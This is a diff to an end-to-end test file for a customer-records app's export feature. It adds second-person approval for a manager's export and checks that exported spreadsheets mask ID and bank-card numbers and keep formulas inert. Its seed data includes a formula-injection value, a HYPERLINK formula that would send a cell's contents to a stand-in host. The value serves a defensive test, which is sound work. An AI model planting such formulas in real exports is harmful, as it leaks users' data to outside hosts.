@@ -4,6 +4,7 @@ import * as XLSX from '@e965/xlsx';
 import { afterEach, expect, it } from 'vitest';
 import { describeKeychain } from '../support/keyring';
 import { tempDir } from '../support/tmp';
+import { approvalsOff } from './approval-policy';
 import { launchApp, signIn, type TestApp } from './harness';
 import { ok, seedVault } from './seed';
 
@@ -12,6 +13,8 @@ const MANAGER = { username: 'mia', displayName: 'Mia 王', password: 'Silver-Map
 
 async function seedExportVault(profileDir: string): Promise<void> {
   await seedVault(profileDir, OWNER, async (router) => {
+    // Adding a manager needs approval by default; this file is about the export itself.
+    await approvalsOff(router, 'seed', ['users.create']);
     await ok(router, 'seed', 'users.create', { ...MANAGER, role: 'manager' });
     await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip' });
     await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'vip' });
@@ -37,7 +40,7 @@ afterEach(async () => {
 });
 
 describeKeychain('exporting customers, in Chromium', () => {
-  it('the owner exports this view as CSV from the dialog; main writes it; the manager has no Export button', async () => {
+  it('the owner exports this view as CSV from the dialog; main writes it; the manager\'s export asks for approval first', async () => {
     const profileDir = tempDir('coffer-e2e-export-');
     const folder = tempDir('coffer-e2e-export-out-');
     await seedExportVault(profileDir);
@@ -73,13 +76,22 @@ describeKeychain('exporting customers, in Chromium', () => {
     await signIn(app, MANAGER);
     await page.getByRole('button', { name: 'Customers' }).click();
     await page.getByTestId('customers-table').waitFor();
-    expect(await page.getByTestId('export-open').count()).toBe(0);
+    // A manager's grant is 'approval': the export is offered, and asks for a second person before anything is written.
+    await page.getByTestId('export-open').click();
+    await page.getByTestId('export-dialog').getByRole('button', { name: 'Choose where to save…' }).click();
+    const approval = page.getByTestId('approval-dialog');
+    await approval.getByText("This needs a second person’s approval").waitFor();
+    await approval.getByRole('button', { name: 'Cancel' }).click();
+    await approval.waitFor({ state: 'detached' });
+    expect(saved).toHaveLength(1);
   });
 
   it('zh-CN: the owner exports .xlsx; read back with SheetJS: a cover sheet, Chinese level words, local times, ID and bank card masked, formulas inert', async () => {
     const profileDir = tempDir('coffer-e2e-export-');
     const folder = tempDir('coffer-e2e-export-out-');
     await seedVault(profileDir, OWNER, async (router) => {
+      // Every customer, on a one-owner vault: the approval path is approvals.e2e.ts's; here the file itself.
+      await approvalsOff(router, 'seed', ['customers.export']);
       await ok(router, 'seed', 'settings.setCustomerFields', { optionalFields: true });
       await ok(router, 'seed', 'customers.create', { name: '王伟', mobile: '13912345678', level: 'vip', idNumber: '11010519491231002X', bankCard: '6222020200112233445' });
       await ok(router, 'seed', 'customers.create', { name: '=HYPERLINK("http://x.example/?"&A1)', level: 'prospect' });
